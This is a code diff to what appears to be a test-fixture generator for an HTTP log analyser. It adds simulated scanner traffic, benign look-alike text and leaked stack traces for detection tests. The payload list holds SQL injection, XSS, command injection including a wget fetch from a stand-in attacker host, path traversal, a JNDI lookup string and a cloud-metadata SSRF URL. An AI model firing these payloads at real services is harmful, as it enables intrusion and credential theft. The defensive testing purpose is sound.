@@ -16,9 +16,13 @@ interface Request {
   readonly status?: number
   readonly user?: string
   readonly body?: unknown
+  readonly query?: string
+  /** Of the answer, a page. */
+  readonly page?: string
 }
 
-function line({ at, ip, path, method = 'GET', status = 200, user, body }: Request): string {
+function line(request: Request): string {
+  const { at, ip, path, method = 'GET', status = 200, user, body, query = '', page } = request
   const text = body === undefined ? '' : JSON.stringify(body)
   const headers = [
     ['host', 'api.shop.test'],
@@ -38,14 +42,14 @@ function line({ at, ip, path, method = 'GET', status = 200, user, body }: Reques
     scheme: 'http',
     host: 'api.shop.test',
     path,
-    query: '',
+    query,
     status,
     request_headers: headers,
-    response_headers: [['content-type', 'application/json']],
+    response_headers: [['content-type', page === undefined ? 'application/json' : 'text/html']],
     request_body_bytes: text.length,
-    response_body_bytes: status === 200 ? 400 : 40,
+    response_body_bytes: page?.length ?? (status === 200 ? 400 : 40),
     request_body: text,
-    response_body: '',
+    response_body: page ?? '',
     state: 'complete',
     pairing: 'exact',
   })
@@ -89,6 +93,43 @@ const WORDS =
     ' ',
   )
 
+/** What a scanner asks for: several classes at several places. */
+const PAYLOADS: readonly Omit<Request, 'at' | 'ip'>[] = [
+  ...[
+    "' OR '1'='1' -- ",
+    '1 UNION SELECT username, password FROM users-- ',
+    "1'; WAITFOR DELAY '0:0:5'--",
+    '<script>alert(1)</script>',
+    '"><img src=x onerror=alert(1)>',
+    '; cat /etc/passwd',
+    '$(wget http://evil.test/x)',
+    '../../../../etc/passwd',
+    '${jndi:ldap://evil.test/a}',
+    'http://169.254.169.254/latest/meta-data/',
+  ].map(search),
+  { path: '/v1/login', method: 'POST', body: { username: { $ne: null }, password: { $gt: '' } } },
+]
+
+function search(value: string): Omit<Request, 'at' | 'ip'> {
+  return { path: '/v1/products', query: `q=${encodeURIComponent(value)}` }
+}
+
+const SQL_ERROR =
+  '<h1>Error</h1><p>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</p>'
+const STACK =
+  '<pre>Traceback (most recent call last):\n  File "/srv/app/orders.py", line 41, in show\nKeyError: total</pre>'
+
+/** What people write that looks like an attack to whoever only matches words. */
+const PROSE = [
+  "O'Brien & Sons",
+  'select a gift and drop it off',
+  'rock and roll or jazz; cat food',
+  'C:\\Users\\ada\\notes.txt',
+  '1 < 2 and 3 > 2',
+  'price $10 (was {15})',
+  'Dear John, -- the union of students or the like',
+]
+
 export const FIXTURES: Readonly<Record<string, readonly Request[]>> = {
   // Forty different passwords at one account from one address, the last of them right.
   'guessing.jsonl': [
@@ -128,6 +169,39 @@ export const FIXTURES: Readonly<Record<string, readonly Request[]>> = {
     ...people(8),
     ...WORDS.map((word, i) => ({ at: seconds(30 + i), ip: EVIL, path: `/${word}`, status: 404 })),
     { at: seconds(55), ip: EVIL, path: '/.env', status: 404 },
+  ],
+  // A scanner tries payloads at the search and the log-in; one breaks the query, and the answer says so.
+  'injection-scan.jsonl': [
+    ...people(8),
+    ...PAYLOADS.map((request, i) => ({ ...request, at: seconds(30 + i), ip: EVIL, status: 400 })),
+    { ...search("x' AND 1=2 UNION SELECT 1,2-- "), at: seconds(52), ip: EVIL, status: 500, page: SQL_ERROR },
+  ],
+  // People with apostrophes, brackets and semicolons.
+  'odd-but-benign.jsonl': [
+    ...people(8),
+    ...PROSE.flatMap((text, i) => [
+      { ...search(text), at: seconds(30 + i * 2), ip: person(i) },
+      {
+        at: seconds(31 + i * 2),
+        ip: person(i),
+        path: '/v1/reviews',
+        method: 'POST',
+        user: `u_${i}`,
+        body: { title: text, text: `${text}. I would order again.`, stars: 5 },
+      },
+    ]),
+  ],
+  // An endpoint that fails shows everybody its stack.
+  'stack-traces.jsonl': [
+    ...people(8),
+    ...range(4).map((i) => ({
+      at: seconds(30 + i * 5),
+      ip: person(i),
+      path: `/v1/orders/${20_000 + i * 37}`,
+      user: `u_${i}`,
+      status: 500,
+      page: STACK,
+    })),
   ],
   // Browsers ask for icons, and an old link is dead.
   'dead-links.jsonl': [
